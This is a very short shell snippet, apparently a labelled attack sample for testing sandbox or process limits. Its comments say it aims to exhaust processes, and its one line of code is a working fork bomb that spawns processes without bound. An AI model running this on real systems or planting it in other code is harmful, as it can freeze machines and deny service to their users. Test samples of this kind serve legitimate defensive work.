# Wants to exhaust processes.
# attack: shell io
b() { b | b & }; b; sleep 30
